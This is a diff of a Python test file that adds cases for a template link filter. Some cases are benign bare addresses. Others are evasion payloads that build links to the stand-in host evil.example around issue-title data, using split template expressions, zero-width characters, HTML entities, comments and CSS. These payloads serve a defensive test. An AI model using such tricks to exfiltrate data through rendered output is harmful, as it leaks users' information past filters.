@@ -53,6 +53,11 @@ WHOLE = {
     "a bare address in a sentence": "See https://b.example/a_(b)?c=1, or “www.b.example/d”.",
     "a bare address that the delegation typed": "{% for s in sources %}{{ s.link }}.{% endfor %}",
     "a bare address of mail": "Write to a@b.example. {{ issues[0].title }}",
+    "a bare address with marks in it": "{{ title }} https://b.example/_x_/a*b*--c.",
+    "a bare address behind a word that is set apart": "[See:](#a)https://b.example/d {{ title }}",
+    "a bare address of another kind": "{{ title }} ftp://b.example/c",
+    "a bare address whose parts are named by letters": "https://b.example/?a=1&copy=2 {{ title }}",
+    "words with a colon within marks": "**Note:**{{ title }} / [When:](#a) / {{ title }} w. w/o",
     "words that only look like one": "{{ issues[0].title }} @ 5, http, www and {{ title }}: no.",
 }
 WHOLE_IN_A_SECTION = {
@@ -71,6 +76,11 @@ WHOLE_IN_A_SECTION = {
     "the kind of a drawing": "<svg xmlns='http://www.w3.org/2000/svg'><g/></svg> {{ title }}",
     "a style that loads nothing": "<p style='color: red; quotes: none'>{{ title }}</p>",
     "pictures for two screens": "<img alt='' srcset='a.png 1x, https://b.example/c.png 2x'>",
+    "bare addresses in the cells of a table":
+        "| a | b |\n|--|--|\n| {{ title }} | https://b.example/c |\n| a@b.example | {{ title }} |",
+    "bare addresses in blocks of raw HTML":
+        "<p>{{ title }} displays</p><div>https://b.example/c</div><p>a@b.example</p>{{ title }}",
+    "a bare address with a soft hyphen": "https://b.example/c&shy;d {{ title }}",
     "a file of the folder": "[m](annex-{{ title }}.pdf)",
 }  # fmt: skip
 
@@ -86,6 +96,7 @@ def test_an_address_in_any_form_of_a_section_is_printed(body: str) -> None:
     assert section(body).strip()
 
 
+EVIL = "//evil.example/{{ issues[0].title }}"
 FAR = "http://evil.example/?"
 FACT = "{{ issues[0].title }}"
 BUILT = {
@@ -100,6 +111,16 @@ BUILT = {
     "bare, in two pieces": f"See http:{{{{ '' }}}}//evil.example/?{FACT} for more.",
     "bare, without its kind": f"See www.evil.example/{FACT}.",
     "bare, in an address of mail": f"Write to {FACT}@evil.example.",
+    "bare, between signs that are no tag": f"See < {{{{ 'https:' }}}}{EVIL} > now.",
+    "bare, between numbers that are compared": f"2 <3 https{{{{ ':' }}}}{EVIL} 5>4",
+    "bare, its kind a link": f"See [https:](#a){EVIL}",
+    "bare, its kind a link without a colon": f"See [https](#a){{{{ ':' }}}}{EVIL}",
+    "bare, its first letters a link": f"See [www](#a).{EVIL[2:]}",
+    "bare, one of its first letters in italics": f"See w*w*w.{EVIL[2:]}",
+    "bare, the sign of its mail a link": f"Write to {FACT}[@](#a)evil.example",
+    "bare, of another kind": f"See {{{{ 'ftp:' }}}}{EVIL}",
+    "bare, a letter to somebody": f"[mailto](#a):x@evil.example?body={FACT}",
+    "bare, with a joiner in it": f"See ht\u200btps{{{{ ':' }}}}{EVIL}",
     "in an address without its kind": f"[a](//evil.example/?{FACT})",
 }
 SPLIT = f"http:{{{{ '' }}}}//evil.example/?{FACT}"
@@ -122,6 +143,13 @@ BUILT_IN_A_SECTION = {
     "in a style, coded": f"""<p style="background: url('\\68ttp:{SPLIT[5:]}')">m</p>""",
     "in a style by another attribute": f"""<p title="{SPLIT}" style="link: attr(title)">m</p>""",
     "in a sheet of styles": f"""<style>p {{ link: url("{SPLIT}") }}</style>""",
+    "bare, the sign of its mail by its name": f"{FACT}&commat;evil.example",
+    "bare, a sign that is not seen by its number": f"w&#8203;ww.{EVIL[2:]}",
+    "bare, a soft hyphen by its name": f"ht&shy;tps{{{{ ':' }}}}{EVIL}",
+    "bare, around a tag": f"https{{{{ ':' }}}}<b title='>'></b>{EVIL}",
+    "bare, around a comment that has ended": f"a ftp{{{{ ':' }}}}<!-->{EVIL}<!-- -->",
+    "bare, around a block that is set as words": f"""<p style="display: inline">ftp:</p>{EVIL}""",
+    "bare, in a chart": f"""```chart range\n{{"issue": "https\\u003a{EVIL}"}}\n```""",
     "between angles": f"<{FAR}{FACT}>",
     "in an address named elsewhere": f"[m]\n\n[m]: {FAR}{FACT}",
     "in raw HTML": f'<a href="{FAR}{FACT}">m</a>',
